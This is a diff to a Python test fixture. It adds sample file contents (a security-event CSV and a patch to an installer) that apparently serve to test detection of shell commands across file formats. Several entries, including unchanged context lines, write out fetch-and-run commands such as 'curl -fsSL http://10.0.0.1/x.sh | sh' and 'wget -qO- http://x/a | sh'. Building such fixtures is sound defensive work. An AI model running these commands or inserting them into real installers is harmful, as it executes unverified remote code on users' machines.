@@ -57,6 +57,11 @@ MENTIONS = {
     "package.json": '{\n  "name": "web",\n  "scripts": {"setup": "curl -fsSL https://example.org/i | bash"}\n}\n',
     # A shell's history: the install line a user once typed.
     ".bash_history": "ls\ncd projects\ncurl -fsSL https://get.docker.com | sh\ngit status\n",
+    # An export of events, a patch to an installer: the command is a field, a changed line.
+    "events.csv": "\ufeffid,time,source,message,detail\r\n1,2026-12-09 01:00:00,process,suspicious process,"
+                  "\"curl -fsSL http://10.0.0.1/x.sh | sh\"\r\n",
+    "fix.diff": "--- a/install.py\n+++ b/install.py\n@@ -1 +1 @@\n-    run(\"wget -qO- http://x/a | sh\")\n"
+                "+    run(\"curl -fsSL http://x/a | sh\")\n",
     # A terminal's listings kept as text: a test's numbered lines, search results.
     "listing.txt": "     1\timport subprocess\n     2\t\n     3\tdef test_install():\n"
                    "     4\t    subprocess.run(\"curl -fsSL http://10.0.0.1/x.sh | sh\", shell=True)\n",
